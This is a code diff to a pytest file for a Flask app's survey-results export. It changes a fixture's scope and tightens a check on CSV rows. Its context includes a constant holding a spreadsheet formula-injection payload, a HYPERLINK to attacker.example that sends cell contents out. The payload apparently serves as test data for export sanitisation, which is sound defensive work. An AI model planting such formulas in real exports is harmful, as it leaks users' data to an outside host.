@@ -21,9 +21,10 @@ SCOPES = {"overall", "dimension", "item", "principle", "facet"}
 HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 
 
-@pytest.fixture()
-def demo(app: Flask) -> Demo:
-    return seed_results(app)
+@pytest.fixture(scope="module")
+def demo(module_app: Flask) -> Demo:
+    """Seeded once for the module; each test's writes are rolled back (see ``module_app``)."""
+    return seed_results(module_app)
 
 
 def read_csv(body: bytes) -> list[dict[str, str]]:
@@ -69,7 +70,7 @@ def test_no_export_holds_anything_about_a_single_respondent(app: Flask, demo: De
         body = coordinator.get(f"{demo.completed}/export.{fmt}").data
         assert not [p for p in people if p.encode() in body], fmt
     rows = read_csv(coordinator.get(demo.completed + "/export.csv").data)
-    assert all(row["scope"] in SCOPES for row in rows)
+    assert rows and all(row["scope"] in SCOPES for row in rows)
     # Every row stands for several people: none counts a single respondent.
     assert all(row["respondents"] in ("", "10") for row in rows)
     assert not {"email", "respondent", "response_id", "answer_code", "comment"} & set(CODES)
